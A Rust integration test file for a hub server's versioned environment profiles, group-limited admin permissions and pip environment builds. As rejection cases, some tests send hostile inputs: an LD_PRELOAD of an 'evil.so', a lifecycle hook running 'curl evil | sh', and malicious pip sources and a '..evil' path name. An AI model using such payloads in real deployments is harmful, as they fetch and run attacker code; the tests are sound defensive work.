//! Issue 19: profiles as versioned objects in the hub, against the real binary. An admin makes a
//! profile for group class-a with a memory limit through `/hub/api/environments`; a member sees
//! it on the options page and gets that limit in their server's cgroup; someone outside the
//! group neither sees it nor may start it; edits and a restore are in the history with their
//! author; an admin limited to class-a (`admin:environments!group=class-a`) cannot touch other
//! profiles; the config's profile is read-only; `hubfleet config dump` writes what the hub has.
//!
//! Needs a cgroup memory controller (as `profiles_limits`).

mod common;

use std::process::Command;
use std::time::Duration;

use common::{
    admin_yaml, cgroup_memory_limit, cgroups_usable, fake_singleuser, Browser, TestHub,
    CLASS_A_TEACHER,
};
use reqwest::Method;
use serde_json::{json, Value};

async fn page(browser: &Browser, path: &str) -> (u16, String) {
    let response = browser
        .no_redirects()
        .get(browser.url(path))
        .send()
        .await
        .unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

#[tokio::test(flavor = "multi_thread")]
async fn admins_change_profiles_in_the_hub_with_history_and_group_limits() {
    assert!(
        cgroups_usable(),
        "this test needs a cgroup memory controller under /sys/fs/cgroup"
    );
    let mut hub = common::admin_hub(&format!(
        r#"{CLASS_A_TEACHER}singleuser:
  cmd: {}
  profileList:
    - display_name: Standard
      slug: standard
      default: true
      kubespawner_override: {{mem_limit: 1G}}
"#,
        fake_singleuser()
    ));
    let admin = Browser::new(&hub);
    admin.login("admin", "x").await;
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/users",
            Some(json!({"usernames": ["ann", "bob", "teacher"]})),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    for (group, users) in [("class-a", json!(["ann"])), ("class-b", json!(["bob"]))] {
        let (status, body) = admin
            .call(Method::POST, &format!("/hub/api/groups/{group}"), None)
            .await;
        assert_eq!(status, 201, "{body}");
        let (status, body) = admin
            .call(
                Method::POST,
                &format!("/hub/api/groups/{group}/users"),
                Some(json!({ "users": users })),
            )
            .await;
        assert_eq!(status, 200, "{body}");
    }

    // The config's profile is in the store, read-only.
    let (status, list) = admin.call(Method::GET, "/hub/api/environments", None).await;
    assert_eq!(status, 200, "{list}");
    assert_eq!(list["profiles"][0]["name"], "standard", "{list}");
    assert_eq!(list["profiles"][0]["source"], "config", "{list}");
    assert_eq!(list["profiles"][0]["read_only"], true, "{list}");
    let (status, body) = admin
        .call(
            Method::PUT,
            "/hub/api/environments/profiles/standard",
            Some(json!({"data": {"display_name": "Changed"}})),
        )
        .await;
    assert_eq!(status, 403, "{body}");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("allow_ui_overrides"),
        "{body}"
    );

    // Bad input: the loader's checks, naming the field.
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles",
            Some(json!({"data": {
                "display_name": "Class A",
                "allowed_groups": ["class-a"],
                "kubespawner_override": {"mem_limit": "300M", "mem_guarantee": "1G"},
            }})),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(
        body["problems"][0]["field"], "kubespawner_override.mem_guarantee",
        "{body}"
    );
    assert!(
        body["problems"][0]["message"]
            .as_str()
            .unwrap()
            .contains("above the limit"),
        "{body}"
    );
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles",
            Some(json!({"data": {"display_name": "Typo", "kubespawner_override": {"mem_limt": "1G"}}})),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("mem_limt"),
        "{body}"
    );

    // The class-a profile, made by the admin.
    let (status, created) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles",
            Some(json!({
                "data": {
                    "display_name": "Class A",
                    "description": "For class A only.",
                    "allowed_groups": ["class-a"],
                    "kubespawner_override": {"mem_limit": "300M"},
                },
                "comment": "for the course",
            })),
        )
        .await;
    assert_eq!(status, 201, "{created}");
    assert_eq!(created["name"], "class-a");
    assert_eq!(created["version"], 1);

    // A member sees it at once; someone outside the group does not, and may not start it.
    let ann = Browser::new(&hub);
    ann.login("ann", "x").await;
    let bob = Browser::new(&hub);
    bob.login("bob", "x").await;
    let (status, html) = page(&ann, "/hub/spawn").await;
    assert_eq!(status, 200);
    assert!(html.contains("Class A"), "{html}");
    let (_, html) = page(&bob, "/hub/spawn").await;
    assert!(html.contains("Standard"), "{html}");
    assert!(!html.contains("Class A"), "{html}");
    let (status, body) = bob
        .call(
            Method::POST,
            "/hub/api/users/bob/server",
            Some(json!({"profile": "class-a"})),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body["message"].as_str().unwrap().contains("not available"),
        "{body}"
    );

    // ann starts it and gets its limit, read from her server's cgroup.
    let (status, body) = ann
        .call(
            Method::POST,
            "/hub/api/users/ann/server",
            Some(json!({"profile": "class-a"})),
        )
        .await;
    assert!(status == 201 || status == 202, "{status} {body}");
    let model = ann.wait_ready("ann", Duration::from_secs(30)).await;
    assert_eq!(model["server"], "/user/ann/", "{model}");
    let pids = hub.server_pids("ann");
    assert!(!pids.is_empty());
    assert_eq!(cgroup_memory_limit(pids[0]), 300 << 20);

    // Edit, then restore: three versions by the admin, newest first.
    let (status, body) = admin
        .call(
            Method::PUT,
            "/hub/api/environments/profiles/class-a",
            Some(json!({
                "data": {
                    "display_name": "Class A",
                    "description": "For class A only.",
                    "allowed_groups": ["class-a"],
                    "kubespawner_override": {"mem_limit": "400M"},
                },
                "comment": "more memory",
                "version": 1,
            })),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["version"], 2);
    // A change made on an old version is refused.
    let (status, body) = admin
        .call(
            Method::PUT,
            "/hub/api/environments/profiles/class-a",
            Some(json!({"data": {"display_name": "Stale", "allowed_groups": ["class-a"]}, "version": 1})),
        )
        .await;
    assert_eq!(status, 409, "{body}");
    // Entries that are not objects are refused with 400 (not a dropped connection).
    for data in [json!([]), json!(1)] {
        let (status, body) = admin
            .call(
                Method::PUT,
                "/hub/api/environments/profiles/class-a",
                Some(json!({"data": data, "version": 2})),
            )
            .await;
        assert_eq!(status, 400, "{body}");
    }
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles/class-a/restore",
            Some(json!({"version": 1})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["version"], 3);
    assert_eq!(body["data"]["kubespawner_override"]["mem_limit"], "300M");
    let (status, history) = admin
        .call(
            Method::GET,
            "/hub/api/environments/profiles/class-a/history",
            None,
        )
        .await;
    assert_eq!(status, 200, "{history}");
    let versions = history["versions"].as_array().unwrap();
    assert_eq!(versions.len(), 3, "{history}");
    let summary: Vec<(i64, &str, &str)> = versions
        .iter()
        .map(|v| {
            (
                v["version"].as_i64().unwrap(),
                v["action"].as_str().unwrap(),
                v["author"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        summary,
        vec![
            (3, "restore", "admin"),
            (2, "update", "admin"),
            (1, "create", "admin")
        ]
    );
    assert_eq!(
        versions[1]["diff"],
        "~ kubespawner_override.mem_limit: \"300M\" → \"400M\""
    );
    assert_eq!(versions[1]["comment"], "more memory");
    assert!(versions[0]["diff"]
        .as_str()
        .unwrap()
        .contains("\"400M\" → \"300M\""));
    // ann's running server was not touched by the edits.
    assert_eq!(hub.server_pids("ann"), pids);

    // An admin limited to class-a: their group's profile only.
    let teacher = Browser::new(&hub);
    teacher.login("teacher", "x").await;
    let (status, list) = teacher
        .call(Method::GET, "/hub/api/environments", None)
        .await;
    assert_eq!(status, 200, "{list}");
    let can_edit: Vec<(&str, bool)> = list["profiles"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["name"].as_str().unwrap(),
                p["can_edit"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(can_edit, vec![("standard", false), ("class-a", true)]);
    let (status, body) = teacher
        .call(
            Method::POST,
            "/hub/api/environments/profiles/class-a/hide",
            Some(json!({"hidden": false, "comment": "checked"})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    for (method, path, data) in [
        (
            Method::POST,
            "/hub/api/environments/profiles",
            json!({"data": {"display_name": "Class B", "allowed_groups": ["class-b"]}}),
        ),
        (
            Method::POST,
            "/hub/api/environments/profiles",
            json!({"data": {"display_name": "Everyone"}}),
        ),
        (
            Method::PUT,
            "/hub/api/environments/profiles/class-a",
            json!({"data": {"display_name": "Class A", "allowed_groups": ["class-a", "class-b"]}}),
        ),
    ] {
        let (status, body) = teacher.call(method, path, Some(data.clone())).await;
        assert_eq!(status, 403, "{data}: {body}");
        assert!(
            body["message"]
                .as_str()
                .unwrap()
                .contains("limited to groups [class-a]"),
            "{body}"
        );
    }
    // Nor what runs in the members' servers (their code would run as each member).
    let preload = json!({"LD_PRELOAD": "/home/teacher/evil.so"});
    for (method, path) in [
        (Method::POST, "/hub/api/environments/profiles"),
        (Method::PUT, "/hub/api/environments/profiles/class-a"),
    ] {
        let data = json!({"data": {
            "display_name": "Class A2",
            "slug": if method == Method::POST { "class-a2" } else { "class-a" },
            "allowed_groups": ["class-a"],
            "kubespawner_override": {"environment": preload},
        }});
        let (status, body) = teacher.call(method, path, Some(data)).await;
        assert_eq!(status, 403, "{body}");
        assert!(
            body["message"]
                .as_str()
                .unwrap()
                .contains("kubespawner_override.environment"),
            "{body}"
        );
    }
    // Not in a choice's override either, nor the image, hooks and the like at the top level:
    // a filtered admin changes only resources and display fields.
    let with_choice = json!({"data": {
        "display_name": "Class A",
        "allowed_groups": ["class-a"],
        "kubespawner_override": {"mem_limit": "300M"},
        "profile_options": {"tools": {
            "display_name": "Tools",
            "choices": {"plain": {
                "display_name": "Plain",
                "kubespawner_override": {"environment": preload},
            }},
        }},
    }});
    let (status, body) = teacher
        .call(
            Method::PUT,
            "/hub/api/environments/profiles/class-a",
            Some(with_choice),
        )
        .await;
    assert_eq!(status, 403, "{body}");
    assert!(
        body["message"]
            .as_str()
            .unwrap()
            .contains("profile_options.tools.choices.plain.kubespawner_override.environment"),
        "{body}"
    );
    for (key, value) in [
        (
            "lifecycle_hooks",
            json!({"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}}),
        ),
        ("image", json!("teachers-own")),
    ] {
        let (status, body) = teacher
            .call(
                Method::POST,
                "/hub/api/environments/profiles",
                Some(json!({"data": {
                    "display_name": "Class A3",
                    "allowed_groups": ["class-a"],
                    "kubespawner_override": {"mem_limit": "300M", key: value},
                }})),
            )
            .await;
        assert_eq!(status, 403, "{key}: {body}");
        assert!(
            body["message"]
                .as_str()
                .unwrap()
                .contains(&format!("kubespawner_override.{key}")),
            "{body}"
        );
    }
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles",
            Some(json!({"data": {"display_name": "Class B", "allowed_groups": ["class-b"]}})),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = teacher
        .call(
            Method::DELETE,
            "/hub/api/environments/profiles/class-b",
            None,
        )
        .await;
    assert_eq!(status, 403, "{body}");
    // Someone without the scope at all.
    let (status, _) = bob.call(Method::GET, "/hub/api/environments", None).await;
    assert_eq!(status, 403);
    // A cookie write without the XSRF token is refused.
    let response = teacher
        .no_redirects()
        .post(teacher.url("/hub/api/environments/profiles/class-a/hide"))
        .json(&json!({"hidden": true}))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);

    // The admin deletes class-b; the dump holds what the hub has now.
    let (status, body) = admin
        .call(
            Method::DELETE,
            "/hub/api/environments/profiles/class-b",
            None,
        )
        .await;
    assert_eq!(status, 204, "{body}");
    let output = Command::new(env!("CARGO_BIN_EXE_hubfleet"))
        .args(["config", "dump", "--config"])
        .arg(&hub.config)
        .output()
        .unwrap();
    let dump = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "{dump}{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let values: Value = serde_yaml_ng::from_str(&dump).unwrap();
    let profiles = values["singleuser"]["profileList"].as_array().unwrap();
    let slugs: Vec<&str> = profiles
        .iter()
        .map(|p| {
            p["slug"]
                .as_str()
                .unwrap_or(p["display_name"].as_str().unwrap())
        })
        .collect();
    assert_eq!(slugs, vec!["standard", "class-a"], "{dump}");
    assert_eq!(profiles[1]["kubespawner_override"]["mem_limit"], "300M");
    // Layered after the hub's own config, it is a config the loader takes.
    let layered = hub.dir.path().join("environments.yaml");
    std::fs::write(&layered, dump.as_bytes()).unwrap();
    let check = Command::new(env!("CARGO_BIN_EXE_hubfleet"))
        .args(["check", "--config"])
        .arg(&hub.config)
        .arg("--config")
        .arg(&layered)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "{}{}",
        String::from_utf8_lossy(&check.stdout),
        String::from_utf8_lossy(&check.stderr)
    );

    // A restart seeds again from the same config: nothing changes.
    hub.kill();
    hub.launch();
    let (status, history) = admin
        .call(
            Method::GET,
            "/hub/api/environments/profiles/standard/history",
            None,
        )
        .await;
    assert_eq!(status, 200, "{history}");
    assert_eq!(
        history["versions"].as_array().unwrap().len(),
        1,
        "{history}"
    );
    assert_eq!(history["versions"][0]["author"], "config");
    let (status, list) = admin.call(Method::GET, "/hub/api/environments", None).await;
    assert_eq!(status, 200, "{list}");
    assert_eq!(list["profiles"][1]["version"], 3, "{list}");
}

/// Wait for the build of `name` to end (bounded), and return its status.
async fn build_finished(admin: &Browser, name: &str) -> Value {
    let deadline = std::time::Instant::now() + Duration::from_secs(300);
    loop {
        let (status, body) = admin
            .call(
                Method::GET,
                &format!("/hub/api/environments/local/{name}/build"),
                None,
            )
            .await;
        assert_eq!(status, 200, "{body}");
        if body["state"] != "running" {
            return body;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the build of {name} did not end: {body}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

/// A local environment built from the API (pip from PyPI): its log, a new version that profiles
/// can name; a failing requirement shows pip's error and leaves the working version in place.
#[tokio::test(flavor = "multi_thread")]
async fn local_environments_are_built_with_their_log_and_pips_errors() {
    let hub = TestHub::start_with(
        &admin_yaml(&format!(
            "{CLASS_A_TEACHER}singleuser:\n  cmd: {}\n",
            fake_singleuser()
        )),
        // A small build: the test checks the build, not a server in it.
        "  environments:\n    build_packages: []\n",
        &common::python_env(),
    );
    let admin = Browser::new(&hub);
    admin.login("admin", "x").await;

    // Bad input first: pip options and unusable names.
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/local/stats/build",
            Some(json!({"requirements": "--index-url https://example.org\nsix"})),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(body["problems"][0]["field"], "requirements", "{body}");
    for source in [
        "https://example.org/evil.tar.gz",
        "evil @ file:///tmp/evil",
        "git+https://example.org/evil.git",
        "./evil",
    ] {
        let (status, body) = admin
            .call(
                Method::POST,
                "/hub/api/environments/local/stats/build",
                Some(json!({"requirements": format!("six\n{source}")})),
            )
            .await;
        assert_eq!(status, 400, "{source}: {body}");
        assert_eq!(body["problems"][0]["field"], "requirements", "{body}");
    }
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/local/..evil/build",
            Some(json!({"requirements": "six"})),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    // Only an unfiltered admin:environments builds.
    let teacher = Browser::new(&hub);
    teacher.login("teacher", "x").await;
    let (status, body) = teacher
        .call(
            Method::POST,
            "/hub/api/environments/local/stats/build",
            Some(json!({"requirements": "six"})),
        )
        .await;
    assert_eq!(status, 403, "{body}");

    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/local/stats/build",
            Some(json!({"requirements": "# tables\nsix\n", "comment": "first"})),
        )
        .await;
    assert_eq!(status, 202, "{body}");
    assert_eq!(body["state"], "running");
    let built = build_finished(&admin, "stats").await;
    assert_eq!(built["state"], "succeeded", "{built}");
    assert_eq!(built["version"], 1, "{built}");
    let log = built["log"].as_str().unwrap();
    assert!(log.contains("Successfully installed six"), "{log}");
    let first_path = built["directory"].as_str().unwrap().to_string();
    assert!(std::path::Path::new(&first_path)
        .join("bin/python")
        .exists());
    let (_, list) = admin.call(Method::GET, "/hub/api/environments", None).await;
    assert_eq!(list["environments"][0]["name"], "stats", "{list}");
    assert_eq!(
        list["environments"][0]["data"]["path"], first_path,
        "{list}"
    );
    // A profile may now name it as its image.
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles",
            Some(json!({"data": {"display_name": "Stats", "kubespawner_override": {"image": "stats"}}})),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles",
            Some(json!({"data": {"display_name": "Nope", "kubespawner_override": {"image": "nope"}}})),
        )
        .await;
    assert_eq!(status, 400, "{body}");
    assert_eq!(
        body["problems"][0]["field"], "kubespawner_override.image",
        "{body}"
    );

    // A failing requirement: pip's own error, and the working version stays.
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/local/stats/build",
            Some(json!({"requirements": "six\nno-such-package-hubfleet-test==1.0"})),
        )
        .await;
    assert_eq!(status, 202, "{body}");
    let failed = build_finished(&admin, "stats").await;
    assert_eq!(failed["state"], "failed", "{failed}");
    let error = failed["error"].as_str().unwrap();
    assert!(
        error.contains("No matching distribution found for no-such-package-hubfleet-test==1.0"),
        "{error}"
    );
    assert!(
        failed["log"]
            .as_str()
            .unwrap()
            .contains("No matching distribution found"),
        "{failed}"
    );
    assert!(!std::path::Path::new(failed["directory"].as_str().unwrap()).exists());
    let (_, list) = admin.call(Method::GET, "/hub/api/environments", None).await;
    assert_eq!(list["environments"][0]["version"], 1, "{list}");
    assert_eq!(
        list["environments"][0]["data"]["path"], first_path,
        "{list}"
    );
    let (_, history) = admin
        .call(
            Method::GET,
            "/hub/api/environments/local/stats/history",
            None,
        )
        .await;
    assert_eq!(history["versions"][0]["action"], "build", "{history}");
    assert_eq!(history["versions"][0]["author"], "admin", "{history}");
    assert_eq!(history["versions"][0]["comment"], "first", "{history}");
}

/// The build directories of `name` in the hub's data directory.
fn build_dirs(hub: &TestHub, name: &str) -> Vec<String> {
    let mut dirs: Vec<String> = std::fs::read_dir(hub.data_dir().join("environments").join(name))
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .filter(|n| n.starts_with("build-"))
                .collect()
        })
        .unwrap_or_default();
    dirs.sort();
    dirs
}

async fn build(admin: &Browser, name: &str, requirements: &str) -> Value {
    let (status, body) = admin
        .call(
            Method::POST,
            &format!("/hub/api/environments/local/{name}/build"),
            Some(json!({ "requirements": requirements })),
        )
        .await;
    assert_eq!(status, 202, "{body}");
    body
}

/// Builds are kept in the database: after a crash and a restart the last build's status and log
/// are still there, a build running at the crash is failed ("interrupted by a hub restart"), and
/// each successful build leaves only its directory and the one before it (no server running).
#[tokio::test(flavor = "multi_thread")]
async fn builds_survive_a_restart_and_old_build_directories_go() {
    // A Python that waits while the test holds a file, so that a build is seen running; it
    // gives up (making nothing) once the file is gone.
    let tools = tempfile::tempdir().unwrap();
    let hold = tools.path().join("hold");
    let python = tools.path().join("slow-python");
    std::fs::write(
        &python,
        format!(
            "#!/bin/sh\nif [ -e {hold} ]; then while [ -e {hold} ]; do sleep 0.2; done; exit 1; fi\nexec python3 \"$@\"\n",
            hold = hold.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&python, std::fs::Permissions::from_mode(0o755)).unwrap();
    let mut hub = TestHub::start_with(
        &admin_yaml(&format!("singleuser:\n  cmd: {}\n", fake_singleuser())),
        &format!(
            "  environments:\n    build_packages: []\n    python: {}\n",
            python.display()
        ),
        &common::python_env(),
    );
    let admin = Browser::new(&hub);
    admin.login("admin", "x").await;

    let mut directories = Vec::new();
    for round in 1..=3 {
        let started = build(&admin, "stats", "six").await;
        assert_eq!(started["state"], "running", "{started}");
        let built = build_finished(&admin, "stats").await;
        assert_eq!(built["state"], "succeeded", "{built}");
        assert_eq!(built["version"], round, "{built}");
        assert_eq!(built["author"], "admin", "{built}");
        directories.push(built["directory"].as_str().unwrap().to_string());
        let on_disk = build_dirs(&hub, "stats");
        assert_eq!(on_disk.len(), round.min(2), "round {round}: {on_disk:?}");
    }
    let name_of = |dir: &str| dir.rsplit('/').next().unwrap().to_string();
    assert_eq!(
        build_dirs(&hub, "stats"),
        [name_of(&directories[1]), name_of(&directories[2])]
    );
    let last = build_finished(&admin, "stats").await;
    let log = last["log"].as_str().unwrap().to_string();
    assert!(
        log.contains(&format!(
            "removed old build directories that no running server uses: {}",
            name_of(&directories[0])
        )),
        "{log}"
    );

    // A crash: the last build's record is read back from the database.
    hub.kill();
    hub.launch();
    let admin = Browser::new(&hub);
    admin.login("admin", "x").await;
    let after = build_finished(&admin, "stats").await;
    assert_eq!(after["state"], "succeeded", "{after}");
    assert_eq!(after["version"], 3, "{after}");
    assert_eq!(after["log"], log.as_str(), "{after}");
    assert!(log.contains("Successfully installed six"), "{log}");

    // A build running when the hub dies never finishes: the restart says so.
    std::fs::write(&hold, "").unwrap();
    let running = build(&admin, "stats", "six").await;
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    loop {
        let (_, body) = admin
            .call(Method::GET, "/hub/api/environments/local/stats/build", None)
            .await;
        assert_eq!(body["id"], running["id"], "{body}");
        if body["log"]
            .as_str()
            .is_some_and(|l| l.contains("creating a Python environment"))
        {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "{body}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    hub.kill();
    hub.launch();
    std::fs::remove_file(&hold).unwrap();
    let admin = Browser::new(&hub);
    admin.login("admin", "x").await;
    let (status, body) = admin
        .call(Method::GET, "/hub/api/environments/local/stats/build", None)
        .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["id"], running["id"], "{body}");
    assert_eq!(body["state"], "failed", "{body}");
    assert_eq!(body["error"], "interrupted by a hub restart", "{body}");
    assert!(body["finished"].is_string(), "{body}");
    // The environment still points at the last good build, and a new build may start.
    let (_, list) = admin.call(Method::GET, "/hub/api/environments", None).await;
    assert_eq!(list["environments"][0]["version"], 3, "{list}");
    assert_eq!(
        list["environments"][0]["data"]["path"], directories[2],
        "{list}"
    );
    assert_eq!(build_dirs(&hub, "stats").len(), 2);
    let again = build(&admin, "stats", "six").await;
    assert_ne!(again["id"], running["id"], "{again}");
    assert_eq!(build_finished(&admin, "stats").await["state"], "succeeded");
    assert_eq!(build_dirs(&hub, "stats").len(), 2);

    // A running server's build directory stays, whatever builds come after, until it stops.
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/profiles",
            Some(json!({"data": {"display_name": "Stats", "kubespawner_override": {"image": "stats"}}})),
        )
        .await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = admin.call(Method::POST, "/hub/api/users/ada", None).await;
    assert_eq!(status, 201, "{body}");
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/users/ada/server",
            Some(json!({"profile": "stats"})),
        )
        .await;
    assert!(status == 201 || status == 202, "{status} {body}");
    let model = admin.wait_ready("ada", Duration::from_secs(60)).await;
    assert!(!model["server"].is_null(), "{model}");
    let (_, list) = admin.call(Method::GET, "/hub/api/environments", None).await;
    let in_use = name_of(list["environments"][0]["data"]["path"].as_str().unwrap());
    for _ in 0..2 {
        build(&admin, "stats", "six").await;
        let built = build_finished(&admin, "stats").await;
        assert_eq!(built["state"], "succeeded", "{built}");
    }
    let on_disk = build_dirs(&hub, "stats");
    assert_eq!(on_disk.len(), 3, "{on_disk:?}");
    assert!(on_disk.contains(&in_use), "{on_disk:?}");
    let built = build_finished(&admin, "stats").await;
    let log = built["log"].as_str().unwrap();
    assert!(
        log.contains(&format!(
            "kept old build directories that running servers use: {in_use}"
        )),
        "{log}"
    );
    let (status, body) = admin
        .call(Method::DELETE, "/hub/api/users/ada/server", None)
        .await;
    assert!(status == 202 || status == 204, "{status} {body}");
    let model = admin.wait_ready("ada", Duration::from_secs(60)).await;
    assert!(model["server"].is_null(), "{model}");
    build(&admin, "stats", "six").await;
    assert_eq!(build_finished(&admin, "stats").await["state"], "succeeded");
    let on_disk = build_dirs(&hub, "stats");
    assert_eq!(on_disk.len(), 2, "{on_disk:?}");
    assert!(!on_disk.contains(&in_use), "{on_disk:?}");
}

/// A build points the environment at its directory and keeps the rest: its `env`, its being
/// hidden. `python -m venv` and pip (and so a package's `setup.py`) run without the hub's
/// environment (its secrets), with a `HOME` of their own.
#[tokio::test(flavor = "multi_thread")]
async fn builds_keep_the_environments_settings_and_not_the_hubs_secrets() {
    // A Python that writes its environment down, and wraps the venv's pip to do the same.
    let tools = tempfile::tempdir().unwrap();
    let (venv_env, pip_env) = (tools.path().join("venv-env"), tools.path().join("pip-env"));
    let python = tools.path().join("python");
    std::fs::write(
        &python,
        format!(
            r#"#!/bin/sh
env > {venv_env}
python3 "$@" || exit $?
for dir; do :; done
mv "$dir/bin/pip" "$dir/bin/real-pip"
printf '#!/bin/sh\nenv > {pip_env}\nexec "$(dirname "$0")/real-pip" "$@"\n' > "$dir/bin/pip"
chmod +x "$dir/bin/pip"
"#,
            venv_env = venv_env.display(),
            pip_env = pip_env.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&python, std::fs::Permissions::from_mode(0o755)).unwrap();
    let secret = "HUBFLEET_TEST_BUILD_SECRET";
    let hub = TestHub::start_with_env(
        &admin_yaml(&format!("singleuser:\n  cmd: {}\n", fake_singleuser())),
        &format!(
            "  environments:\n    build_packages: []\n    python: {}\n",
            python.display()
        ),
        &common::python_env(),
        &[(secret, "s3cret-value")],
    );
    let admin = Browser::new(&hub);
    admin.login("admin", "x").await;

    // Built once, then given a variable of its own.
    build(&admin, "x", "six").await;
    let first = build_finished(&admin, "x").await;
    assert_eq!(first["state"], "succeeded", "{first}");
    let (status, body) = admin
        .call(
            Method::PUT,
            "/hub/api/environments/local/x",
            Some(json!({"data": {"path": first["directory"], "env": {"FOO": "1"}}})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = admin
        .call(
            Method::POST,
            "/hub/api/environments/local/x/hide",
            Some(json!({"hidden": true})),
        )
        .await;
    assert_eq!(status, 200, "{body}");
    build(&admin, "x", "six").await;
    let built = build_finished(&admin, "x").await;
    assert_eq!(built["state"], "succeeded", "{built}");
    let (status, x) = admin
        .call(Method::GET, "/hub/api/environments/local/x", None)
        .await;
    assert_eq!(status, 200, "{x}");
    assert_eq!(x["data"]["env"]["FOO"], "1", "{x}");
    assert_eq!(x["data"]["path"], built["directory"], "{x}");
    assert_eq!(x["hidden"], true, "{x}");

    for dump in [&venv_env, &pip_env] {
        let env = std::fs::read_to_string(dump).unwrap();
        assert!(!env.contains(secret), "{}: {env}", dump.display());
        assert!(!env.contains("HUBFLEET_"), "{}: {env}", dump.display());
        let home = env
            .lines()
            .find_map(|l| l.strip_prefix("HOME="))
            .unwrap_or_default();
        assert!(!home.is_empty(), "{env}");
        assert_ne!(Some(home), std::env::var("HOME").ok().as_deref(), "{env}");
    }
}
